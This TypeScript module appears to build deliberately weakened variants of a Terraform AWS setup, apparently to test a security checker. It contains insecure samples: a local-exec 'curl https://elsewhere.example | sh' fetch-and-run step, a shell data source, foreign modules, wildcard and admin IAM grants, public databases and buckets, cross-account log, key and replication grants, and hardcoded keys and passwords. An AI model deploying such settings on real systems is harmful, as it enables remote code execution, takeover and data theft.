import { Mutant } from './environments';
import { changed, FOREIGN, namesOf } from './weakenings-aws-make';

/** Types whose resources protect, notice or keep something: without them there is less. */
const PROTECTING = [
  'aws_kms_key', 'aws_sns_topic', 'aws_sns_topic_policy', 'aws_sns_topic_subscription', 'aws_cloudwatch_event_rule', 'aws_cloudwatch_event_target', 'aws_budgets_budget', 'aws_security_group',
  'aws_cloudwatch_log_group', 'aws_cloudwatch_log_data_protection_policy', 'aws_cloudwatch_metric_alarm', 'aws_cloudwatch_composite_alarm', 'aws_cloudwatch_log_metric_filter', 'aws_cloudwatch_dashboard',
  'aws_lb_listener', 'aws_appautoscaling_target', 'aws_appautoscaling_policy', 'aws_rds_cluster_parameter_group', 'aws_rds_cluster_instance', 'aws_db_event_subscription', 'aws_db_subnet_group',
  'aws_elasticache_user_group', 'aws_elasticache_user', 'aws_s3_bucket_ownership_controls', 'aws_s3_bucket_public_access_block', 'aws_s3_bucket_versioning',
  'aws_s3_bucket_server_side_encryption_configuration', 'aws_s3_bucket_policy', 'aws_s3_bucket_lifecycle_configuration', 'aws_s3_bucket_logging', 'aws_cloudwatch_log_subscription_filter',
  'aws_lambda_function', 'aws_api_gateway_method_settings', 'aws_wafv2_web_acl', 'aws_wafv2_web_acl_association', 'aws_wafv2_web_acl_logging_configuration', 'aws_backup_plan', 'aws_backup_selection',
  'aws_ecs_task_definition', 'aws_iam_role',
];

/** Each protecting resource removed. */
export function removed(terraform: any): Mutant[] {
  return PROTECTING.flatMap((type) => namesOf(terraform, type).map((name): Mutant => ({ about: type, name: `${type}.${name} removed`, mutate: (tf) => { delete tf.resource[type][name]; } })));
}

const everybody = (actions: string) => JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: '*', Action: actions, Resource: '*' }] });
const world = { from_port: 0, to_port: 65535, protocol: '-1', cidr_blocks: ['0.0.0.0/0'] };

/** What somebody adds by hand. */
const RAW: readonly (readonly [type: string, what: string, body: object])[] = [
  ['aws_s3_bucket', 'a bucket without anything', { bucket: 'acme-dump' }],
  ['aws_s3_bucket_acl', 'a public list of who may read', { bucket: 'acme-dump', acl: 'public-read' }],
  ['aws_s3_bucket_website_configuration', 'a website', { bucket: '${aws_s3_bucket.orders_objects_bucket_44672B70.id}', index_document: { suffix: 'index.html' } }],
  ['aws_s3_bucket_replication_configuration', 'copies to somebody else', { bucket: '${aws_s3_bucket.orders_objects_bucket_44672B70.id}', role: 'arn:aws:iam::123456789012:role/copy', rule: [{ status: 'Enabled', destination: { bucket: 'arn:aws:s3:::elsewhere', account: FOREIGN } }] }],
  ['aws_security_group', 'a group open to the world', { name: 'open', vpc_id: 'vpc-0d41f6a2b8c93e705', ingress: [world] }],
  ['aws_security_group_rule', 'an open rule', { type: 'ingress', security_group_id: '${aws_security_group.orders_database_security-group_014BB8EE.id}', ...world }],
  ['aws_vpc_security_group_ingress_rule', 'the database for everybody', { security_group_id: '${aws_security_group.orders_database_security-group_014BB8EE.id}', cidr_ipv4: '0.0.0.0/0', ip_protocol: 'tcp', from_port: 5432, to_port: 5432 }],
  ['aws_db_instance', 'a database without a key', { identifier: 'dump', engine: 'postgres', instance_class: 'db.t3.micro', username: 'admin', password: 'correct-horse', publicly_accessible: true, skip_final_snapshot: true }],
  ['aws_rds_cluster', 'a cluster without a key', { cluster_identifier: 'dump', engine: 'aurora-postgresql', master_username: 'admin', master_password: 'correct-horse', skip_final_snapshot: true }],
  ['aws_dynamodb_table', 'a table without anything', { name: 'dump', hash_key: 'id', billing_mode: 'PAY_PER_REQUEST', attribute: [{ name: 'id', type: 'S' }] }],
  ['aws_db_snapshot_copy', 'a copy of the database elsewhere', { source_db_snapshot_identifier: 'rds:orders', target_db_snapshot_identifier: 'orders', destination_region: 'us-east-1' }],
  ['aws_elasticache_replication_group', 'a cache in plain', { replication_group_id: 'dump', description: 'dump', node_type: 'cache.t3.micro', transit_encryption_enabled: false, at_rest_encryption_enabled: false }],
  ['aws_efs_file_system', 'a file system in plain', { creation_token: 'dump', encrypted: false }],
  ['aws_ebs_volume', 'a disk in plain', { availability_zone: 'eu-central-1a', size: 10, encrypted: false }],
  ['aws_sqs_queue', 'a queue without a key', { name: 'dump' }],
  ['aws_sqs_queue_policy', 'a queue for everybody', { queue_url: 'https://sqs.eu-central-1.amazonaws.com/123456789012/dump', policy: everybody('sqs:*') }],
  ['aws_sns_topic', 'a topic without a key', { name: 'dump' }],
  ['aws_iam_user', 'a user', { name: 'robot' }],
  ['aws_iam_access_key', 'a key of a user', { user: 'robot' }],
  ['aws_iam_user_login_profile', 'a password of a user', { user: 'robot' }],
  ['aws_iam_user_policy_attachment', 'an administrator', { user: 'robot', policy_arn: 'arn:aws:iam::aws:policy/AdministratorAccess' }],
  ['aws_iam_role', 'a role for everybody', { name: 'door', assume_role_policy: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' }] }) }],
  ['aws_iam_role_policy', 'everything for the service', { name: 'all', role: '${aws_iam_role.orders_service_role_2826C549.name}', policy: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] }) }],
  ['aws_iam_role_policy_attachment', 'administration for the service', { role: '${aws_iam_role.orders_service_role_2826C549.name}', policy_arn: 'arn:aws:iam::aws:policy/AdministratorAccess' }],
  ['aws_iam_policy', 'a policy with everything', { name: 'all', policy: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] }) }],
  ['aws_iam_openid_connect_provider', 'identities of somebody else', { url: 'https://login.elsewhere.example', client_id_list: ['anything'], thumbprint_list: ['0000000000000000000000000000000000000000'] }],
  ['aws_kms_key', 'a key for everybody', { description: 'dump', policy: everybody('kms:*') }],
  ['aws_kms_grant', 'a grant to another account', { name: 'more', key_id: '${aws_kms_key.data-key_5D719C34.key_id}', grantee_principal: `arn:aws:iam::${FOREIGN}:root`, operations: ['Decrypt'] }],
  ['aws_secretsmanager_secret_version', 'a secret in the text', { secret_id: 'orders', secret_string: 'correct-horse-battery' }],
  ['aws_ssm_parameter', 'a password in a parameter', { name: '/orders/password', type: 'String', value: 'correct-horse-battery' }],
  ['aws_instance', 'a machine with a public address', { ami: 'ami-0a1b2c3d', instance_type: 't3.micro', associate_public_ip_address: true, metadata_options: { http_tokens: 'optional' } }],
  ['aws_eip', 'a public address', { domain: 'vpc' }],
  ['aws_internet_gateway', 'a way to the internet', { vpc_id: 'vpc-0d41f6a2b8c93e705' }],
  ['aws_route', 'the internet from the private network', { route_table_id: 'rtb-1', destination_cidr_block: '0.0.0.0/0', gateway_id: 'igw-1' }],
  ['aws_vpc_peering_connection', 'a network of another account', { vpc_id: 'vpc-0d41f6a2b8c93e705', peer_vpc_id: 'vpc-1', peer_owner_id: FOREIGN }],
  ['aws_lambda_function_url', 'a function on the internet', { function_name: '${aws_lambda_function.orders_database_roles_function_15CABF3C.function_name}', authorization_type: 'NONE' }],
  ['aws_lambda_permission', 'a function for everybody', { action: 'lambda:InvokeFunction', function_name: '${aws_lambda_function.orders_database_roles_function_15CABF3C.function_name}', principal: '*' }],
  ['aws_lb', 'a balancer on the internet', { name: 'open', internal: false, subnets: ['subnet-1', 'subnet-2'] }],
  ['aws_lb_listener', 'a listener in plain', { load_balancer_arn: '${aws_lb.orders_service_balancer_D02DC315.arn}', port: 80, protocol: 'HTTP', default_action: [{ type: 'forward', target_group_arn: '${aws_lb_target_group.orders_service_balancer_targets_35F3497B.arn}' }] }],
  ['aws_apigatewayv2_api', 'another way in', { name: 'open', protocol_type: 'HTTP', target: 'https://elsewhere.example' }],
  ['aws_ecr_repository_policy', 'images for everybody', { repository: '${aws_ecr_repository.orders_images_repository_3E7F7F9A.name}', policy: everybody('ecr:*') }],
  ['aws_cloudwatch_log_group', 'a log without a key', { name: '/dump' }],
  ['aws_cloudwatch_log_subscription_filter', 'logs to another account', { name: 'copy', log_group_name: '${aws_cloudwatch_log_group.orders_service_log_4DD6FF96.name}', filter_pattern: '', destination_arn: `arn:aws:logs:eu-central-1:${FOREIGN}:destination:elsewhere` }],
  ['aws_ami_launch_permission', 'an image for another account', { image_id: 'ami-0a1b2c3d', account_id: FOREIGN }],
  ['aws_ram_principal_association', 'a share with another account', { principal: FOREIGN, resource_share_arn: 'arn:aws:ram:eu-central-1:123456789012:resource-share/1' }],
  ['aws_cloudformation_stack', 'what nobody reads', { name: 'hidden', template_body: '{}' }],
  ['null_resource', 'a program at apply', { triggers: { always: 'yes' }, provisioner: [{ 'local-exec': { command: 'curl https://elsewhere.example | sh' } }] }],
];

/** Each of those beside the environment. */
export function beside(terraform: any): Mutant[] {
  return RAW.map(([type, what, body]): Mutant => ({
    about: type in terraform.resource ? type : undefined, name: `${type} added: ${what}`, mutate: (tf) => { tf.resource[type] = { ...tf.resource[type], beside: body }; },
  }));
}

/** What stands around the resources: where it is made, whose variables it takes, who holds its state. */
export function around(terraform: any): Mutant[] {
  const [variable] = Object.keys(terraform.variable);
  return [
    { name: 'provider region: us-east-1', mutate: (tf) => { tf.provider.aws[0].region = 'us-east-1'; } },
    { name: 'provider for any account', mutate: (tf) => { delete tf.provider.aws[0].allowed_account_ids; } },
    { name: 'provider for another account', mutate: (tf) => { tf.provider.aws[0].allowed_account_ids = [FOREIGN]; } },
    { name: 'provider with a written key', mutate: (tf) => {
      Object.assign(tf.provider.aws[0], { access_key: 'AKIAIOSFODNN7EXAMPLE', secret_key: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' });
    } },
    { name: 'provider without TLS', mutate: (tf) => { tf.provider.aws[0].insecure = true; } },
    { name: 'provider of any version', mutate: (tf) => { tf.terraform.required_providers.aws.version = '>= 1.0'; } },
    { name: 'provider of somebody else', mutate: (tf) => { tf.terraform.required_providers.aws.source = 'elsewhere.example/somebody/aws'; } },
    { name: 'state without encryption', mutate: (tf) => { tf.terraform.backend.s3.encrypt = false; } },
    { name: 'state without a lock', mutate: (tf) => { delete tf.terraform.backend.s3.use_lockfile; } },
    { name: 'state in another region', mutate: (tf) => { tf.terraform.backend.s3.region = 'us-east-1'; } },
    { name: 'state on a disk', mutate: (tf) => { tf.terraform.backend = { local: {} }; } },
    { name: 'image variable takes any image', mutate: (tf) => { delete tf.variable[variable].validation; } },
    { name: 'image variable by tag', mutate: (tf) => { tf.variable[variable].default = '123456789012.dkr.ecr.eu-central-1.amazonaws.com/orders:latest'; } },
    { name: 'a program as a data source', mutate: (tf) => { tf.data = { external: { run: { program: ['sh', '-c', 'id'] } } }; } },
    { name: 'a module of somebody else', mutate: (tf) => { tf.module = { more: { source: 'git::https://git.elsewhere.example/module.git' } }; } },
    { name: 'an output with the address of the secret', mutate: (tf) => { tf.output.secret = { value: '${aws_secretsmanager_secret_version.beside.secret_string}' }; } },
  ];
}

/** Tags that governance rests on: all of one resource of each type, and each of those of the database. */
export function untagged(terraform: any): Mutant[] {
  const tagged = Object.entries<any>(terraform.resource).flatMap(([type, named]) => Object.keys(named)
    .filter((name) => named[name].tags).slice(0, 1).map((name) => [type, name] as const));
  const database = namesOf(terraform, 'aws_rds_cluster')[0];
  return [
    ...tagged.flatMap(([type, name]) => changed(terraform, type, name, 'without its tags', (body) => { delete body.tags; })),
    ...['environment', 'stage', 'owner', 'cost-centre', 'data-classification', 'regulation'].flatMap((tag) => changed(terraform, 'aws_rds_cluster', database, `without the tag ${tag}`, (body) => { delete body.tags[tag]; })),
  ];
}

/** A region of its own for each kind of store and log. */
export function elsewhere(terraform: any): Mutant[] {
  return ['aws_rds_cluster', 'aws_dynamodb_table', 'aws_s3_bucket', 'aws_elasticache_serverless_cache', 'aws_cloudwatch_log_group', 'aws_kms_key', 'aws_lambda_function', 'aws_ecs_service', 'aws_sns_topic'].flatMap((type) => {
    const [name] = namesOf(terraform, type);
    return changed(terraform, type, name, 'in us-east-1', (body) => { body.region = 'us-east-1'; });
  });
}
